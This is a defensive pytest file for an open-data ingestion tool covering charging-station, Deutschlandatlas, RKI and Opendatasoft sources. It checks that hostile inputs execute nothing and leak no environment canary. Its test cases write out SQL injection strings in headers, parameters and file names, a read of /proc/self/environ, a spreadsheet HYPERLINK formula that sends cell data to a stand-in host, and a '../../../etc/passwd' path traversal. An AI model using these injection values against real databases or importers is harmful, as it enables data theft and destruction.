"""Hostile headers, values, file names and registry params: nothing executes, nothing leaks.

Each case goes in as an operator's file (``ingest SOURCE --from``) with a canary in the environment;
a header crafted as SQL (``read_text('/proc/self/environ')``) would copy the environment into raw.
Every case ends either in a clean load (the text kept as data) or in one line naming the source,
the file and the problem; the payload is kept in both cases and the canary is nowhere.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from csvkit import (
    ATLAS_HEADER,
    HEADER,
    RKI_HEADER,
    atlas,
    current_register,
    files_containing,
    ingest_file,
    quarantined,
    raw_rows,
    region_row,
    registry_with,
    rki,
)

from regiohub.core.errors import SourceError

CANARY = "canary-5e1f0c2d9a"
ENVIRON = "read_text('/proc/self/environ')"
SQL_HEADER = f'x" , (select content from {ENVIRON}) as "y'
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1;"Klick")'
HUGE = "A" * (3 << 20)


@dataclass
class Case:
    id: str
    source: str
    body: bytes
    expect: str  # "loaded" or a fragment of the one-line error
    name: str = "payload.csv"
    params: dict[str, str] = field(default_factory=dict)
    check: Callable[[Path], None] | None = None


def _operator_is(text: str) -> Callable[[Path], None]:
    def check(data: Path) -> None:
        assert (text,) in raw_rows(data, "ladesaeulenregister", "charging_facilities", "operator")
    return check


def _reason(source: str, reason: str) -> Callable[[Path], None]:
    def check(data: Path) -> None:
        assert reason in quarantined(data, source), quarantined(data, source)
    return check


def _indicators(*names: str) -> Callable[[Path], None]:
    def check(data: Path) -> None:
        assert {r[0] for r in raw_rows(data, "deutschlandatlas_aerzte", "values", "indicator")} == set(names)
    return check


def _ods_page(results: object, total: object = None) -> bytes:
    return json.dumps({"total_count": len(results) if total is None else total, "results": results}).encode()


def _rki_with_column(name: str) -> bytes:
    header, *rows = rki().decode().splitlines()
    return ("\n".join([f"{header},{name}", *[r + ",0" for r in rows]]) + "\n").encode()


ODS_RECORD = {"stadtteil_nr": "01", "stadtteil": "Bornim", "jahr": "2024", "einwohner": 3712}

CASES = [
    # --- Ladesäulenregister ------------------------------------------------------------------------
    Case("lade-sql-in-unknown-header", "ladesaeulenregister",
         current_register(region_row(), header=HEADER.replace("Standortbezeichnung", SQL_HEADER)), "loaded"),
    Case("lade-sql-as-required-header", "ladesaeulenregister",
         current_register(region_row(), header=HEADER.replace(";Betreiber;", f";{SQL_HEADER};")),
         "unknown column layout in payload.csv: missing Betreiber"),
    Case("lade-formula-operator", "ladesaeulenregister",
         current_register(region_row(Betreiber=FORMULA.replace(";", ","))), "loaded",
         check=_operator_is(FORMULA.replace(";", ","))),
    Case("lade-sql-in-number", "ladesaeulenregister",
         current_register(region_row(), region_row("2000002", **{"Anzahl Ladepunkte": ENVIRON.replace(";", "")})),
         "loaded", check=_reason("ladesaeulenregister", "unreadable whole number in 'Anzahl Ladepunkte'")),
    Case("lade-nul-byte", "ladesaeulenregister",
         current_register(region_row(Betreiber="Stadtwerke\x00GmbH")), "contains NUL bytes"),
    Case("lade-huge-field", "ladesaeulenregister",
         current_register(region_row(Adresszusatz=HUGE)), "cannot read payload.csv"),
    Case("lade-unbalanced-quote", "ladesaeulenregister",
         current_register(region_row(Betreiber='"Stadtwerke'), region_row("2000002")), "cannot read payload.csv"),
    Case("lade-sql-file-name", "ladesaeulenregister", current_register(region_row()), "loaded",
         name="x'); select * from read_text('etc-passwd'); --.csv"),
    Case("lade-huge-header-line", "ladesaeulenregister",
         current_register(region_row(), preamble=["Hinweis: " + HUGE]), "longer than 1 MiB"),
    # --- Deutschlandatlas ---------------------------------------------------------------------------
    Case("atlas-sql-in-unknown-header", "deutschlandatlas_aerzte",
         atlas(header=ATLAS_HEADER.replace("v_alq", SQL_HEADER)), "loaded", check=_indicators("v_harzt", "v_karzt")),
    Case("atlas-sql-as-requested-indicator", "deutschlandatlas_aerzte",
         atlas(header=ATLAS_HEADER.replace("v_alq", SQL_HEADER)), "missing",
         params={"indicators": f"v_harzt,{SQL_HEADER}"}),
    Case("atlas-sql-indicator-param", "deutschlandatlas_aerzte", atlas(), "unknown column layout",
         params={"indicators": f'v_harzt" from {ENVIRON} --'}),
    Case("atlas-sql-year-param", "deutschlandatlas_aerzte", atlas(), "params.reference_year must be a year",
         params={"reference_year": f"2022); select * from {ENVIRON}; --"}),
    Case("atlas-formula-value", "deutschlandatlas_aerzte",
         atlas(f"12063000;Havelland;{FORMULA.replace(';', ',')};7,0;5,0"), "loaded",
         check=_reason("deutschlandatlas_aerzte", "unreadable number in an indicator column")),
    Case("atlas-sql-in-key", "deutschlandatlas_aerzte", atlas("12072000') or 1=1 --;Teltow-Fläming;1,0;2,0;3,0"),
         "loaded", check=_reason("deutschlandatlas_aerzte", "unknown Kreis key")),
    Case("atlas-infinite-value", "deutschlandatlas_aerzte", atlas("12063000;Havelland;1e400;NaN;inf"), "loaded",
         check=_reason("deutschlandatlas_aerzte", "unreadable number in an indicator column")),
    Case("atlas-nul-byte", "deutschlandatlas_aerzte", atlas().replace(b"Potsdam", b"Pots\x00dam"), "NUL bytes"),
    Case("atlas-huge-field", "deutschlandatlas_aerzte", atlas(f"12063000;{HUGE};1,0;2,0;3,0"), "cannot read"),
    # --- RKI 7-Tage-Inzidenz ------------------------------------------------------------------------
    Case("rki-sql-in-unknown-header", "rki_inzidenz", _rki_with_column(SQL_HEADER.replace(",", " ")), "loaded"),
    Case("rki-sql-as-key", "rki_inzidenz", rki(f"2026-09-03,{ENVIRON.replace(',', '')},185750,1,1,1,0.5"),
         "loaded", check=_reason("rki_inzidenz", "not a Kreis key (a Land total or unknown)")),
    Case("rki-formula-number", "rki_inzidenz", rki('2026-09-03,12054,"=1+2",1,1,1,0.5'), "loaded",
         check=_reason("rki_inzidenz", "unreadable whole number in 'Bevoelkerung'")),
    Case("rki-infinite-incidence", "rki_inzidenz", rki("2026-09-03,12054,185750,1,1,1,1e400",
                                                       "2026-09-04,12054,185750,1,1,1,NaN"), "loaded",
         check=_reason("rki_inzidenz", "unreadable number in 'Inzidenz_7-Tage'")),
    Case("rki-land-and-unknown-ids", "rki_inzidenz", rki("2026-09-03,17000,1,1,1,1,0.5", "2026-09-03,u,1,1,1,1,0.5"),
         "loaded", check=_reason("rki_inzidenz", "not a Kreis key (a Land total or unknown)")),
    Case("rki-nul-byte", "rki_inzidenz", rki().replace(b"12054", b"12\x0054", 1), "NUL bytes"),
    Case("rki-huge-field", "rki_inzidenz", rki(f"2026-09-03,12054,{HUGE},1,1,1,0.5"), "cannot read payload.csv"),
    Case("rki-quoted-header", "rki_inzidenz", rki(header='"Meldedatum,Landkreis_id"' + RKI_HEADER[22:]),
         "unknown column layout in payload.csv"),
    Case("rki-sql-file-name", "rki_inzidenz", rki(), "loaded", name="covid'); drop table x; --.csv"),
    # --- Opendatasoft (Explore API pages) -----------------------------------------------------------
    Case("ods-sql-as-field-name", "potsdam_einwohner_stadtteile",
         _ods_page([{**ODS_RECORD, SQL_HEADER: ENVIRON}]), "loaded", name="page-00000.json"),
    Case("ods-formula-value", "potsdam_einwohner_stadtteile",
         _ods_page([{**ODS_RECORD, "stadtteil": FORMULA}]), "loaded", name="page-00000.json"),
    Case("ods-total-as-text", "potsdam_einwohner_stadtteile", _ods_page([ODS_RECORD], total="1; select 1"),
         "total_count or results have the wrong type", name="page-00000.json"),
    Case("ods-results-not-a-list", "potsdam_einwohner_stadtteile",
         json.dumps({"total_count": 1, "results": ENVIRON}).encode(), "wrong type", name="page-00000.json"),
    Case("ods-html-error-page", "potsdam_einwohner_stadtteile", b"<!DOCTYPE html><html>Fehler</html>",
         "is an HTML page", name="page-00000.json"),
    Case("ods-nul-in-json", "potsdam_einwohner_stadtteile", b'{"total_count": 1, "results": [{"a": "\x00"}]}',
         "page-00000.json", name="page-00000.json"),
    Case("ods-huge-value", "potsdam_einwohner_stadtteile", _ods_page([{**ODS_RECORD, "stadtteil": HUGE}]),
         "above the limit of 1 MiB per record", name="page-00000.json"),  # issue 22: no record stands in for all
    Case("ods-sql-file-name", "potsdam_einwohner_stadtteile", _ods_page([ODS_RECORD]), "loaded",
         name="page-'); select 1; --.json"),
]


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_hostile_input_executes_nothing_and_leaks_nothing(case: Case, tmp_path, data_dir, monkeypatch):
    monkeypatch.setenv("REGIOHUB_CANARY", CANARY)
    registry = registry_with(case.source, **case.params) if case.params else None
    outcome = ingest_file(case.source, case.name, case.body, tmp_path / "in", data_dir, registry)
    if case.expect == "loaded":
        assert not isinstance(outcome, SourceError), outcome
        assert outcome.status == "loaded"
        if case.check:
            case.check(data_dir)
    else:
        assert isinstance(outcome, SourceError), f"expected an error, got {outcome}"
        message = str(outcome)
        assert "\n" not in message and message.startswith(f"{case.source}: ")
        assert case.expect in message and len(message) < 400
    # the payload is kept as delivered …
    kept = [p for p in (data_dir / "landing" / case.source).rglob("*") if p.is_file()]
    assert [p.read_bytes() for p in kept] == [case.body]
    # … and nothing read the environment: no canary in raw, quarantine, state, logs or the message
    assert files_containing(data_dir, CANARY.encode()) == []
    assert CANARY not in str(outcome)


def test_a_fetched_registry_dataset_id_cannot_leave_the_api_path(data_dir):
    from regiohub.core.settings import paths
    from regiohub.ingest.replay import offline
    from regiohub.ingest.source import ingest_source

    registry = registry_with("potsdam_einwohner_stadtteile", dataset="../../../etc/passwd")
    with offline() as server, pytest.raises(SourceError, match="params.dataset must be an Opendatasoft dataset id"):
        ingest_source("potsdam_einwohner_stadtteile", data=paths(data_dir), registry=registry)
    assert server.requests == []
